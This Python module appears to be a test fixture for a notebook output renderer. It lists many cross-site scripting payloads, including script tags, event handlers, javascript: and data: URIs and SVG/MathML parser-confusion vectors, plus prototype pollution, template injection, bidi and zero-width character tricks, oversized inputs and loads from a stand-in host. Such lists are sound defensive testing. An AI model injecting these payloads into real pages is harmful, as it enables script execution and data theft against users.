"""Texts that a model could write in order to run code in the browser, to call home, or to break the page."""

from __future__ import annotations

__all__ = ["ELSEWHERE", "HOSTILE", "HUGE"]

ELSEWHERE = "http://hostile.invalid"
"""A host that no page here may ask for anything."""

_HIT = "top.__hit=1"
_SCRIPT = f"<script>{_HIT}</script>"
_ENCODED = "PHNjcmlwdD50b3AuX19oaXQ9MTwvc2NyaXB0Pg=="  # the same in base64

HOSTILE = (
    # Scripts, and what could end the element that they stand in.
    _SCRIPT,
    f"<ScRiPt\n>{_HIT}</sCrIpT\t>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f'">{_SCRIPT}',
    f"'>{_SCRIPT}",
    f"</textarea>{_SCRIPT}",
    f"</title></style>{_SCRIPT}",
    f"-->{_SCRIPT}<!--",
    f"]]>{_SCRIPT}",
    f"</script>{_SCRIPT}",
    f"```html\n</code></pre>{_SCRIPT}\n```",
    # Handlers.
    f"<img src=x onerror={_HIT}>",
    '<img src="x" onerror="&#116;op.__hit=1">',
    f"<img/src/onerror={_HIT}>",
    f"<body onload={_HIT}>",
    f"<details open ontoggle={_HIT}>x</details>",
    f"<input autofocus onfocus={_HIT}>",
    f"<video><source onerror={_HIT}></video>",
    f"<audio src=x onerror={_HIT}>",
    f"<marquee onstart={_HIT}>x</marquee>",
    f"<p onpointerenter={_HIT} onanimationstart={_HIT} style='animation: x 1s'>x</p>",
    f"<button onclick={_HIT} style='position:fixed;inset:0'>x</button>",
    # Links and frames.
    f'<a href="javascript:{_HIT}">x</a>',
    f'<a href="JaVa&#9;ScRiPt:{_HIT}">x</a>',
    f'<a href="data:text/html;base64,{_ENCODED}">x</a>',
    f"[x](javascript:{_HIT})",
    f"[x](<java\tscript:{_HIT}>)",
    f"[x](data:text/html;base64,{_ENCODED})",
    f"![x]({ELSEWHERE}/a.png)",
    f"![x](javascript:{_HIT})",
    f"javascript:{_HIT}",
    f'<iframe src="javascript:{_HIT}"></iframe>',
    f'<iframe srcdoc="{_SCRIPT}"></iframe>',
    f'<iframe src="{ELSEWHERE}"></iframe>',
    f'<object data="javascript:{_HIT}"></object>',
    f'<embed src="data:text/html;base64,{_ENCODED}">',
    f'<form action="javascript:{_HIT}"><button autofocus>x</button></form>',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}/">',
    # Styles.
    "<style>*{display:none!important}</style>",
    f"<style>@import url({ELSEWHERE}/a.css);</style>",
    f'<link rel=stylesheet href="{ELSEWHERE}/a.css">',
    '<div style="position:fixed;inset:0;background:red;z-index:2147483647">x</div>',
    f'<div style="background:url({ELSEWHERE}/a.png);width:100000px;height:9px">x</div>',
    '<div id="main" class="jp-rlm-Panel lm-Widget" style="position:absolute;left:-9999px">x</div>',
    # SVG and MathML.
    f"<svg onload={_HIT}></svg>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s /></svg>",
    f'<svg><a xlink:href="javascript:{_HIT}"><text x=9 y=9>x</text></a></svg>',
    f'<svg><use href="{ELSEWHERE}/a.svg#x" /><image href="{ELSEWHERE}/a.png" /></svg>',
    f"<svg><foreignObject><iframe srcdoc='{_SCRIPT}'></iframe></foreignObject></svg>",
    f'<math><maction actiontype=statusline xlink:href="javascript:{_HIT}">x</maction></math>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_HIT}&gt;'>",
    f"$\\href{{javascript:{_HIT}}}{{x}}$",
    # What parsers disagree about.
    f'<noscript><p title="</noscript><img src=x onerror={_HIT}>">',
    f"<template shadowrootmode=open>{_SCRIPT}</template>",
    f"<listing>&lt;img src=x onerror={_HIT}&gt;</listing>",
    f"{{{{constructor.constructor('{_HIT}')()}}}} ${{{_HIT}}}",
    '{"__proto__": {"polluted": true}}',
    "__proto__",
    # Characters.
    "\u202egnp.exe \u2066\u2067abc\u2069 \u061c right to left",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060" * 100,
    "Z" + "\u0300\u0301\u0302\u0303" * 300,
    "W" * 20_000,
    "\n" * 3_000 + "the end",
    "\x01\x02\x07\x08\r\x1b[31mred\x1b[0m\x1b]8;;javascript:top.__hit=1\x07x\x1b]8;;\x07",
    "👩‍👩‍👧‍👦" * 300 + "\ufffe\uffff",
)

HUGE = "A line of a text that goes on.\n" * 330_000 + _SCRIPT
"""Ten megabytes."""
